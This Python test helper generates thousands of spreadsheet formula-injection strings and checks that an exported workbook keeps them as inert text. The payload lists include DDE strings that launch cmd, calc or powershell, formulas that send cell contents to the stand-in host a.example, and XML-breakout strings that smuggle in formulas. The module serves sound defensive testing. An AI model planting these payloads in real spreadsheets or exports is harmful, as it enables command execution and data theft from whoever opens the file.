"""Texts that a spreadsheet would run, made up by the thousand, and what a workbook must hold of them."""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import openpyxl

COUNT = 10_000
MOST = 32_767
STARTS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n=", "＝", "＋", "－", "＠", "﹦", "|", "%", "'", '"', " =", "\u3000=",
    "\ufeff=", "\u200b=", "\u00ad@", "\u202e=", "\x00=", "\x1b+", "<r>", "{=", "_x003D_", "\ud800=", "=\udfff",
    "\ufffe=", "&#61;",
)  # fmt: skip
BODIES = (
    "1+1", "A1", "cmd|' /C calc'!A0", "cmd|'/c powershell'!_xlbgnm.A1", 'HYPERLINK("http://a.example/?x="&A1,"点此")',
    'WEBSERVICE("http://a.example")', 'IMPORTXML(CONCAT("http://a.example/",A1:A9),"//a")',
    "SUM(1+1)*cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"a")', "MSEXCEL|'\\..\\..\\cmd.exe'!A1", "示例机械有限公司",
    "SUM(A:A)</t></is></c><c><f>1+1</f></c>",
    "]]><f>1</f>", "&lt;f&gt;", '"";=1+1', ",=1+1", ";=1+1", "\n=1+1", "\x07\x0b", "\U0001f600", "<t>a</t></r>",
    '<t>x</t></r></is></c><c r="Z99"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r><t>y</t></r>',
)  # fmt: skip
TAIL = ("", "", "", " ", "　", "\u200f", "'", "|", "\x00")


def payloads() -> list[str]:
    """The same ones in every run: starts, bodies and tails in any combination, forty about as long as a cell."""
    chance = random.Random(7)  # noqa: S311 - the same ones in every run
    made = [
        chance.choice(STARTS) + chance.choice(("", chance.choice(STARTS))) + chance.choice(BODIES) + chance.choice(TAIL)
        for _ in range(COUNT - 40)
    ]
    made += [chance.choice(STARTS) + "长" * (MOST - 3 + place) for place in range(20)]
    made += [chance.choice(STARTS) + "\U0001f600" * (MOST // 2 - 8 + place) for place in range(20)]
    return made


def few() -> list[str]:
    """Some of them for a short run, two about as long as a cell among them."""
    made = payloads()
    return [*made[:298], made[-40], made[-1]]


def rows_of(evil: list[str], width: int) -> list[tuple[str, ...]]:
    """The payloads in rows of so many cells; the last row is filled up with the first ones again."""
    return [tuple(evil[(at + column) % len(evil)] for column in range(width)) for at in range(0, len(evil), width)]


def kept(text: str) -> str:
    """What a cell can hold of a text."""
    text = re.sub("[\ud800-\udfff]", "\ufffd", text)
    text = text.encode("utf-16-le")[: 2 * MOST].decode("utf-16-le", "ignore")
    return f"{text[: MOST - 1]} " if text.startswith("<r>") and text.endswith("</r>") else text


def raw(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name.lower()]
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet") or name == "xl/sharedStrings.xml":
                yield archive.read(name).decode("utf-8")


def assert_dead(content: bytes, *, formulas: int = 0) -> None:
    """By raw XML: no formula, no link, every `t` one of a text, and well-formed."""
    for part in raw(content):
        assert len(re.findall(r"<f[ >/]", part)) == formulas
        assert "<hyperlink" not in part
        assert set(re.findall(r'<c [^>]*?t="(\w+)"', part)) <= {"s", "inlineStr"}


def texts(content: bytes, *, ours: bool = False) -> list[Any]:
    """Every value of every sheet by openpyxl; a formula has the type f (the form has some of its own), an error e."""
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type in {"s", "inlineStr", "str", "n"} or (ours and cell.data_type == "f"), cell
                    found.append(cell.value)
    return found


def seen(text: str) -> str:
    """As openpyxl gives it back: line breaks of XML, and the escapes that Excel reads as characters."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def unescaped(text: Any) -> str:
    return seen(re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), str(text)))
